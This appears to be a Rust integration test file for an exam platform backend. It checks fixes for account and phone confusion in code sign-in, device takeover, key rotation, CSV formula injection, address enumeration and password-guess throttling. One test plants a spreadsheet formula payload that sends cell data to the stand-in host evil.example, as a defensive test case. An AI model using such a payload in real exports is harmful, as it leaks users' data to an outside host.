//! The smaller findings: code sign-in confusing an account with a phone, events from a device
//! that lost the attempt, key rotation forgetting columns, formulas in exports, a public
//! readiness report, address enumeration and unthrottled password re-checks.

use backend::Application;
use backend::keys::add_encryption_key;
use backend::rotation::reencrypt_all;
use reqwest::Client;
use serde_json::{Value, json};

use crate::helpers::{
    CSRF, PASSWORD, answer_tf, code_in, cookie_client, events, exam_org, get, id, post, save,
    spawn_app, start,
};

#[tokio::test]
async fn code_sign_in_never_signs_in_an_account_named_like_the_phone_the_code_went_to() {
    let app = spawn_app().await;
    let owner = app.register_org("混淆单位", "confuse@example.com").await;
    let slug = app.slug_of(&owner).await;
    // The victim's account name is a phone number; the attacker owns that phone.
    let victim = app
        .create_candidate(
            &owner,
            json!({ "account": "13800138000", "name": "受害者", "password": PASSWORD }),
        )
        .await;
    let attacker = app
        .create_candidate(
            &owner,
            json!({ "account": "attacker1", "name": "攻击者", "phone": "13800138000",
                    "password": PASSWORD }),
        )
        .await;
    let client = cookie_client();
    let (status, body) = post(
        &app,
        &client,
        &format!("/api/portal/{slug}/codes"),
        json!({ "destination": "13800138000" }),
    )
    .await;
    assert_eq!(status, 202, "{body}");
    let code = code_in(app.outbox(1).await.last().expect("code"));
    let (status, me) = post(
        &app,
        &client,
        &format!("/api/portal/{slug}/login"),
        json!({ "identifier": "13800138000", "code": code }),
    )
    .await;
    assert_eq!(status, 200, "{me}");
    assert_ne!(
        me["id"], victim["id"],
        "signed in as the account named like the phone"
    );
    assert_eq!(me["id"], attacker["id"]);
}

#[tokio::test]
async fn events_from_a_device_that_lost_the_attempt_are_refused() {
    let app = spawn_app().await;
    let f = exam_org(&app, "dev").await;
    let exam = f.exam(&app, json!({})).await;
    let first = f.candidate(&app, 0).await;
    let (status, attempt) = start(&app, &first, &exam).await;
    assert_eq!(status, 201, "{attempt}");
    let attempt = id(&attempt);
    // Another device takes the attempt over (single device is the default).
    let second = f.candidate(&app, 0).await;
    let (status, _) = start(&app, &second, &exam).await;
    assert_eq!(status, 200);
    let (status, body) = events(&app, &first, &attempt, &["focus_lost"]).await;
    assert_eq!(status, 409, "{body}");
    assert_eq!(body["code"], "another_device");
    let (status, body) = events(&app, &second, &attempt, &["focus_lost"]).await;
    assert_eq!(status, 200, "{body}");
    assert_eq!(body["counts"]["focus_lost"], 1, "{body}");
}

#[tokio::test]
async fn retiring_the_old_key_after_rotation_keeps_saves_and_the_proctor_timeline_working() {
    let mut app = spawn_app().await;
    let f = exam_org(&app, "rot").await;
    let exam = f.exam(&app, json!({})).await;
    let cand = f.candidate_from(&app, 0, "127.0.0.21").await;
    let (status, attempt) = start(&app, &cand, &exam).await;
    assert_eq!(status, 201, "{attempt}");
    let attempt = id(&attempt);
    let answer = answer_tf(true);
    assert_eq!(
        save(
            &app,
            &cand,
            &attempt,
            f.question("true_false"),
            answer.clone(),
            1
        )
        .await
        .0,
        200
    );
    let (status, body) = events(&app, &cand, &attempt, &["paste_attempt"]).await;
    assert_eq!(status, 200, "{body}");

    // Rotate: a new primary key, everything re-encrypted under it.
    add_encryption_key(&app.settings.keys.file).expect("add key");
    let ring = backend::keys::KeyRing::load(&app.settings.keys).expect("ring");
    let cipher = backend::crypto::FieldCipher::new(&ring);
    let db = backend::db::Database::connect(&app.settings.database).expect("connect");
    {
        use diesel::prelude::*;
        let mut conn = db.get().expect("conn");
        ring.register_and_verify(&mut conn)
            .expect("record the new key");
        let report = reencrypt_all(&mut conn, &cipher, 50, None).expect("rotate");
        assert!(report.complete);
        // Retire key 1: out of the key file and out of the recorded fingerprints.
        diesel::sql_query(
            "DELETE FROM key_fingerprints WHERE purpose = 'encryption' AND key_id = 1",
        )
        .execute(&mut *conn)
        .expect("forget key 1");
    }
    let text = std::fs::read_to_string(&app.settings.keys.file).expect("key file");
    let mut file: Value = serde_json::from_str(&text).expect("json");
    file["encryption_keys"]
        .as_array_mut()
        .expect("keys")
        .retain(|k| k["id"] != 1);
    std::fs::write(&app.settings.keys.file, file.to_string()).expect("write key file");

    // A node with only the new key serves the attempt and the timeline.
    let node = Application::build(app.settings.clone())
        .await
        .expect("a node with only the new key");
    app.address = format!("http://127.0.0.1:{}", node.port());
    tokio::spawn(node.run_until_stopped());
    let answer = answer_tf(false);
    let (status, body) = save(&app, &cand, &attempt, f.question("true_false"), answer, 2).await;
    assert_eq!(status, 200, "a save after retiring the old key: {body}");
    let (status, body) = events(&app, &cand, &attempt, &["focus_lost"]).await;
    assert_eq!(status, 200, "{body}");
    let (status, timeline) = get(
        &app,
        &f.owner,
        &format!("/api/exams/{exam}/attempts/{attempt}/events"),
    )
    .await;
    assert_eq!(status, 200, "{timeline}");
    let list = timeline.as_array().expect("list");
    assert_eq!(list[0]["kind"], "paste_attempt");
    assert_eq!(list[0]["ip"], "127.0.0.21");
}

/// The cells of a CSV body (after the BOM), row by row.
fn csv_cells(body: &str) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(body.trim_start_matches('\u{feff}').as_bytes());
    reader
        .records()
        .map(|r| r.expect("record").iter().map(str::to_owned).collect())
        .collect()
}

#[tokio::test]
async fn an_audit_export_never_hands_a_spreadsheet_a_formula() {
    let app = spawn_app().await;
    let owner = app.register_org("导出单位", "export@example.com").await;
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
    // A sign-in with a formula as its user agent lands in the audit log.
    let res = Client::new()
        .post(app.url("/api/auth/login"))
        .header(reqwest::header::USER_AGENT, formula)
        .json(&json!({ "identifier": "export@example.com", "password": PASSWORD }))
        .send()
        .await
        .expect("login");
    assert_eq!(res.status(), 200);
    let body = owner
        .get(app.url("/api/audit/export"))
        .send()
        .await
        .expect("export")
        .text()
        .await
        .expect("text");
    let cells: Vec<String> = csv_cells(&body).into_iter().flatten().collect();
    assert!(
        cells.iter().any(|c| c == &format!("'{formula}")),
        "the user agent is exported, marked as text: {body}"
    );
    for cell in &cells {
        assert!(
            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
            "a cell a spreadsheet would run: {cell:?}"
        );
    }
}

#[tokio::test]
async fn the_public_readiness_answer_names_no_migration_or_key() {
    let app = spawn_app().await;
    let (status, body): (_, Value) = app.get_json("/api/ready").await;
    assert_eq!(status, 200);
    assert_eq!(body, json!({ "status": "ok" }));
    // The details are for platform staff only.
    let (status, body): (_, Value) = app.get_json("/api/staff/ready").await;
    assert_eq!(status, 401, "{body}");
    let owner = app.register_org("就绪单位", "ready@example.com").await;
    let res = owner
        .get(app.url("/api/staff/ready"))
        .send()
        .await
        .expect("ready");
    assert_eq!(res.status(), 401);
}

#[tokio::test]
async fn binding_an_address_does_not_reveal_whether_it_has_an_account() {
    let app = spawn_app().await;
    app.register_org("甲单位", "someone@example.com").await;
    let client = app.register_org("乙单位", "prober@example.com").await;
    let mut answers = Vec::new();
    for destination in ["someone@example.com", "nobody@example.com"] {
        let res = client
            .post(app.url("/api/account/contact/code"))
            .header(CSRF.0, CSRF.1)
            .json(&json!({ "destination": destination }))
            .send()
            .await
            .expect("code");
        answers.push((res.status(), res.text().await.expect("text")));
    }
    assert_eq!(
        answers[0], answers[1],
        "taken and free addresses answer alike"
    );
}

#[tokio::test]
async fn guessing_the_current_password_inside_a_session_is_throttled() {
    let app = spawn_app().await;
    let owner = app.register_org("猜密单位", "guess@example.com").await;
    let change = |current: &'static str| {
        owner
            .post(app.url("/api/auth/password"))
            .header(CSRF.0, CSRF.1)
            .json(&json!({ "current_password": current, "new_password": "another horse battery" }))
            .send()
    };
    for _ in 0..5 {
        assert_eq!(
            change("wrong guess 123").await.expect("change").status(),
            401
        );
    }
    let res = change("wrong guess 456").await.expect("change");
    assert_eq!(
        res.status(),
        429,
        "the sixth guess in a row is still answered"
    );
    assert!(res.headers().contains_key(reqwest::header::RETRY_AFTER));
    // Locked: even the right password waits, so guessing cannot go on.
    assert_eq!(change(PASSWORD).await.expect("change").status(), 429);
}
